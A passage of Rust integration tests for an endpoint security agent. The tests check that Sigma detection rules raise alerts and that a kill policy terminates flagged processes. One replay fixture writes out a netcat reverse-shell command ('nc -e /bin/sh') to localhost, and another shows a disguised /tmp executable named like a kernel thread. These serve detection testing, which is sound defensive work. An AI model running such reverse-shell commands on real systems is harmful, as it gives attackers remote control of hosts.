    let mut agent = TestAgent::build(false, Some(dir.path()), &extra);
    agent.start();
    agent.wait_line(|l| l.contains("source process: running"));
    let work = tmp_dir_under_slash_tmp("kill");
    let sleeper = work.path().join("sleeper");
    std::fs::copy("/bin/sleep", &sleeper).unwrap();
    let mut child = Command::new(&sleeper).arg("60").spawn().unwrap();
    let pid = child.id();
    let events = agent.wait_journal(|e| {
        e["kind"] == "action" && e["action"]["outcome"] == "succeeded" && e["process"]["pid"] == pid
    });
    let status = child.wait().unwrap();
    assert!(!status.success(), "the process was killed: {status:?}");
    let alert =
        events.iter().find(|e| e["kind"] == "alert" && e["rule"]["id"] == "kill-sigma-tmp-exec").unwrap();
    let sigma = events.iter().find(|e| e["seq"] == alert["event"]["trigger_seq"]).unwrap();
    assert_eq!(sigma["rule"]["ruleset"], "sigma", "the policy alert points at the Sigma alert: {alert}");
    assert_eq!(sigma["rule"]["id"], "312b42b1-bded-4441-8b58-163a3af58775");
    let (st, _) = agent.stop();
    assert!(st.success());
}

#[test]
fn replay_runs_sigma_rules_beside_policies_and_policies_act_on_sigma_alerts() {
    let dir = tempfile::tempdir().unwrap();
    for rule in
        ["proc_creation_lnx_netcat_reverse_shell.yml", "proc_creation_lnx_susp_execution_tmp_folder.yml"]
    {
        std::fs::copy(shipped_policies().join("sigma/process_creation").join(rule), dir.path().join(rule))
            .unwrap();
    }
    std::fs::write(
        dir.path().join("kill.yaml"),
        "id: kill-high-execution\ndescription: kill on high Sigma execution rules\nmitre: T1059\non: alert\n\
         when: rule.ruleset == \"sigma\" and rule.level == \"high\" and rule.tags == \"attack.execution\"\n\
         severity: high\nactions:\n  - kill\n",
    )
    .unwrap();
    let ev = |seq: u32, exe: &str, argv: &[&str]| {
        serde_json::json!({"schema_version": 1, "kind": "process.start", "seq": seq,
            "@timestamp": "2026-11-24T02:00:00Z", "host": {"id": "d"}, "event": {"severity": 0},
            "process": {"pid": 4000 + seq, "executable": exe, "args": argv, "command_line": argv.join(" ")}})
        .to_string()
    };
    let input = [
        ev(1, "/usr/bin/nc", &["nc", "-e", "/bin/sh", "127.0.0.1", "9"]),
        ev(2, "/tmp/.x/kworker", &["/tmp/.x/kworker"]),
        ev(3, "/usr/bin/ls", &["ls", "-l"]),
    ]
    .join("\n");
    let f = dir.path().join("events.ndjson");
    std::fs::write(&f, input).unwrap();
    let out = picket(&[
        "replay",
        "--format",
        "events",
        "--policies",
        dir.path().to_str().unwrap(),
        "--emit",
        "events,decisions",
        f.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let lines: Vec<serde_json::Value> =
        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let alerts: Vec<&serde_json::Value> = lines.iter().filter(|l| l["kind"] == "alert").collect();
    let ids: Vec<(&str, u64)> = alerts
        .iter()
        .map(|a| (a["rule"]["id"].as_str().unwrap(), a["event"]["trigger_seq"].as_u64().unwrap()))
        .collect();
    assert_eq!(
        ids,
        [("7f734ed0-4f47-46c0-837f-6ee62505abd9", 1), ("312b42b1-bded-4441-8b58-163a3af58775", 2)],
        "{lines:#?}"
    );
    // The netcat rule is high and tagged attack.execution; the /tmp one is medium: one decision.
    let decisions: Vec<&serde_json::Value> = lines.iter().filter(|l| l["kind"] == "decision").collect();
    assert_eq!(decisions.len(), 1, "{decisions:#?}");
    assert_eq!(decisions[0]["rule_id"], "kill-high-execution");
    assert_eq!(decisions[0]["trigger_rule"], "7f734ed0-4f47-46c0-837f-6ee62505abd9");
    assert_eq!(decisions[0]["actions"][0]["action"], "kill");
    assert_eq!(decisions[0]["actions"][0]["pid"], 4001);
}
